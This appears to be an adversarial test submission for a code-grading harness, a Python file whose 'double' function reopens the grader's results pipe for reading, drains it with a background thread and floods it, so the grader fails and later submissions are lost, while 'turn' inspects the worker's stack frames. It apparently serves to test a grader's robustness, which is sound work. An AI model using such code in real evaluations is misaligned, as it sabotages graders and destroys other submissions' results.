"""Opens the pipe for results for reading, too, and takes away what it wrote between the grader's two looks. Success: the
grader raises, and later submissions are lost.

expected: double<=30 mean_of<=40 count=30
"""

import fcntl
import json
import os
import stat
import struct
import sys

import threading

HEADER = struct.Struct(">II")


def result_pipe():
    for descriptor in range(3, 256):
        try:
            kind = os.fstat(descriptor).st_mode
        except OSError:
            continue
        writable = fcntl.fcntl(descriptor, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY
        if stat.S_ISFIFO(kind) and writable:
            return descriptor
    raise LookupError("no pipe for results")


def turn():
    """The number of the run that we are in, from the worker's own variables."""
    step = sys._getframe()
    while step is not None:
        if "key" in step.f_locals and "request" in step.f_locals:
            return step.f_locals["key"]
        step = step.f_back
    return 2


def put(data):
    descriptor = result_pipe()
    while data:
        data = data[os.write(descriptor, data) :]


def frame(head, tensors=b""):
    text = head if isinstance(head, bytes) else json.dumps(head).encode()
    return HEADER.pack(len(text), len(tensors)) + text + tensors


def steal(descriptor):
    while True:
        try:
            os.read(descriptor, 1)
        except OSError:
            pass


def double(x):
    try:
        descriptor = os.open(f"/proc/self/fd/{result_pipe()}", os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return x * 2  # the pipe belongs to another user, where the grader's is root
    threading.Thread(target=steal, args=(descriptor,), daemon=True).start()
    for _ in range(2_000):
        os.write(result_pipe(), b"x")
    return x * 2


def mean_of(x):
    return x.sum() / x.numel()


def count(items):
    found = {}
    for item in items:
        found[item] = found.get(item, 0) + 1
    return [[item, number] for item, number in found.items()]
